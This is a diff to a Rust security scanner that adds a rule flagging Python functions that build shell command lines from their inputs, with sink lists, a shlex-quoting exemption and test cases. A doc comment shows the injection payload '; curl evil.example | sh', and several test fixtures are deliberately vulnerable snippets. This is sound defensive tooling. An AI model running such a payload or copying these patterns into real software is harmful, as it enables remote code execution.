@@ -1,5 +1,5 @@
-//! Python functions that pass their own arguments to a dangerous sink: code evaluation, a SQL
-//! statement, a path under a base directory. These are vulnerabilities, not attacks: whoever
+//! Python functions that pass their own arguments to a dangerous sink: code evaluation, a shell
+//! command line, a SQL statement, a path under a base directory. These are vulnerabilities, not attacks: whoever
 //! controls the input (a document, a web page, another tool's output the agent passes along)
 //! controls the sink.
 //!
@@ -64,6 +64,24 @@ declare_rule! {
     pub struct PathEscapesBase { code: "SK116", slug: "path-escapes-base", severity: High, summary: "a file path joins a base directory with unchecked input" }
 }
 
+declare_rule! {
+    /// ## What it does
+    /// Flags a shell command line built by interpolating a function parameter (f-string, `%`,
+    /// `+`, `.format`) and run by a shell: `os.system`, `os.popen`, `subprocess.getoutput`,
+    /// `subprocess.getstatusoutput`, or a `subprocess` call with `shell=True`, directly or through
+    /// a local variable. A function that quotes with `shlex.quote` (or `shlex.join`) is not
+    /// flagged.
+    ///
+    /// ## Why is this risky?
+    /// Command injection: `; curl evil.example | sh` inside a file name or a search term runs as
+    /// its own command with the agent's privileges. An argument list without a shell
+    /// (`subprocess.run(["grep", term, path])`) is the fix.
+    ///
+    /// ## Example
+    /// `os.system(f"convert {filename} out.png")`
+    pub struct CommandBuiltFromInput { code: "SK119", slug: "command-built-from-input", severity: High, summary: "a shell command line is built from a function's input" }
+}
+
 /// A cheap screen before parsing: most scripts open files, few join a base with input or build
 /// SQL.
 fn may_hold_a_sink(text: &str) -> bool {
@@ -73,8 +91,32 @@ fn may_hold_a_sink(text: &str) -> bool {
         && ["path.join", "joinpath", "f\"/", "f'/"]
             .iter()
             .any(|w| text.contains(w));
-    code || sql || path
+    let shell = [
+        "system(",
+        "popen(",
+        "getoutput(",
+        "getstatusoutput(",
+        "shell=True",
+    ]
+    .iter()
+    .any(|w| text.contains(w));
+    code || sql || path || shell
 }
+
+/// Calls that hand their first argument to `/bin/sh -c` whatever the keywords.
+const SHELL_SINKS: &[&str] = &[
+    "os.system",
+    "os.popen",
+    "subprocess.getoutput",
+    "subprocess.getstatusoutput",
+    "commands.getoutput",
+];
+
+/// Calls that run their first argument through a shell when given `shell=True`.
+const SUBPROCESS_CALLS: &[&str] = &["run", "call", "check_call", "check_output", "Popen"];
+
+/// Calls that quote input for a shell: a function that uses one is taken to quote its input.
+const SHELL_QUOTES: &[&str] = &["quote", "join"];
 
 /// Calls that confine a path to its base directory, or cut it to a file name.
 const PATH_CHECKS: &[&str] = &[
@@ -110,6 +152,8 @@ struct Function<'t> {
     built_sql: HashSet<&'t str>,
     /// Locals holding a path that joins a base with tainted input.
     joined_paths: HashSet<&'t str>,
+    /// Locals holding a command line built from tainted input.
+    built_commands: HashSet<&'t str>,
 }
 
 impl<'t> Function<'t> {
@@ -279,6 +323,32 @@ fn parameter_names<'t>(params: Node, text: &'t str) -> HashSet<&'t str> {
     names
 }
 
+/// Whether `call` runs its first argument through a shell.
+fn runs_a_shell(call: Node, text: &str) -> bool {
+    let Some(function) = call.child_by_field_name("function") else {
+        return false;
+    };
+    let callee = function.utf8_text(text.as_bytes()).unwrap_or("");
+    if SHELL_SINKS.contains(&callee) {
+        return true;
+    }
+    let subprocess = callee
+        .strip_prefix("subprocess.")
+        .or((function.kind() == "identifier").then_some(callee))
+        .is_some_and(|name| SUBPROCESS_CALLS.contains(&name));
+    subprocess
+        && call.child_by_field_name("arguments").is_some_and(|args| {
+            let mut cursor = args.walk();
+            args.named_children(&mut cursor).any(|a| {
+                a.kind() == "keyword_argument"
+                    && a.child_by_field_name("name")
+                        .is_some_and(|n| n.utf8_text(text.as_bytes()) == Ok("shell"))
+                    && a.child_by_field_name("value")
+                        .is_some_and(|v| v.utf8_text(text.as_bytes()) == Ok("True"))
+            })
+        })
+}
+
 fn first_argument(call: Node) -> Option<Node> {
     call.child_by_field_name("arguments")?
         .named_child(0)
@@ -307,6 +377,7 @@ fn analyse_function<'t>(def: Node, text: &'t str, hits: &mut Vec<Hit<'t>>) {
         tainted: parameter_names(params, text),
         built_sql: HashSet::new(),
         joined_paths: HashSet::new(),
+        built_commands: HashSet::new(),
     };
     if f.tainted.is_empty() {
         return;
@@ -315,6 +386,12 @@ fn analyse_function<'t>(def: Node, text: &'t str, hits: &mut Vec<Hit<'t>>) {
     let checks_paths = nodes
         .iter()
         .any(|n| n.kind() == "call" && PATH_CHECKS.contains(&callee_name(*n, text)));
+    let quotes_for_shell = nodes.iter().any(|n| {
+        n.kind() == "call"
+            && SHELL_QUOTES.contains(&callee_name(*n, text))
+            && n.child_by_field_name("function")
+                .is_some_and(|c| f.source(c).contains("quote") || f.source(c).starts_with("shlex."))
+    });
     for node in nodes {
         match node.kind() {
             "assignment" => {
@@ -335,6 +412,11 @@ fn analyse_function<'t>(def: Node, text: &'t str, hits: &mut Vec<Hit<'t>>) {
                     || (right.kind() == "identifier" && f.joined_paths.contains(f.source(right)))
                 {
                     f.joined_paths.insert(target);
+                }
+                if f.interpolates_taint(right)
+                    || (right.kind() == "identifier" && f.built_commands.contains(f.source(right)))
+                {
+                    f.built_commands.insert(target);
                 }
                 if f.uses_taint(right) {
                     f.tainted.insert(target);
@@ -367,6 +449,13 @@ fn analyse_function<'t>(def: Node, text: &'t str, hits: &mut Vec<Hit<'t>>) {
                                 && f.joined_paths.contains(f.source(argument))))
                     {
                         &PathEscapesBase::INFO
+                    } else if !quotes_for_shell
+                        && runs_a_shell(node, text)
+                        && (f.interpolates_taint(argument)
+                            || (argument.kind() == "identifier"
+                                && f.built_commands.contains(f.source(argument))))
+                    {
+                        &CommandBuiltFromInput::INFO
                     } else {
                         continue;
                     };
@@ -385,6 +474,9 @@ fn describe(info: &crate::registry::CodeRuleInfo, function: &str) -> String {
     match info.code {
         "SK114" => format!("`{function}` evaluates its input as Python code (code injection)"),
         "SK115" => format!("`{function}` builds a SQL statement from its input (SQL injection)"),
+        "SK119" => format!(
+            "`{function}` runs a shell command line built from its input (command injection)"
+        ),
         _ => format!(
             "`{function}` opens a path joining a base directory with unchecked input (path traversal)"
         ),
@@ -418,6 +510,7 @@ pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
                 "SK114" => (Some(Capability::CodeDynamic), KillChainStage::Execution),
                 // A flaw others can exploit, not a step the skill takes: no stage of its own.
                 "SK115" => (None, KillChainStage::None),
+                "SK119" => (Some(Capability::ProcExec), KillChainStage::None),
                 _ => (Some(Capability::FsRead), KillChainStage::None),
             };
             let mut f = finding(
@@ -479,6 +572,18 @@ mod tests {
                 "def read_config(name):\n    return open(f\"/etc/app/{name}\").read()\n",
                 "SK116",
             ),
+            (
+                "import os\ndef convert(filename):\n    os.system(f\"convert {filename} out.png\")\n",
+                "SK119",
+            ),
+            (
+                "import subprocess\ndef grep(term, path):\n    cmd = 'grep -r ' + term + ' ' + path\n    return subprocess.check_output(cmd, shell=True)\n",
+                "SK119",
+            ),
+            (
+                "import os\ndef lookup(host):\n    return os.popen('nslookup %s' % host).read()\n",
+                "SK119",
+            ),
         ] {
             assert_eq!(codes(script), [code], "{script}");
         }
@@ -500,6 +605,11 @@ mod tests {
             "def save(name, data):\n    open(os.path.join(OUT, name), 'w').write(data)\n",
             "def load_wallet(name):\n    with open(KEYSTORE / f\"{name}.json\") as f:\n        return f.read()\n",
             "def sync(meeting_dir):\n    with open(meeting_dir / 'notes.md') as f:\n        return f.read()\n",
+            // An argument list without a shell; quoted input; a command the caller passes whole.
+            "import subprocess\ndef grep(term, path):\n    return subprocess.run(['grep', '-r', term, path])\n",
+            "import os, shlex\ndef convert(name):\n    os.system(f'convert {shlex.quote(name)} out.png')\n",
+            "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n",
+            "import subprocess\ndef show(path):\n    subprocess.run(f'ls {path}', shell=False)\n",
             // Module level: no parameter.
             "expr = input()\nprint(eval(expr))\n",
         ] {
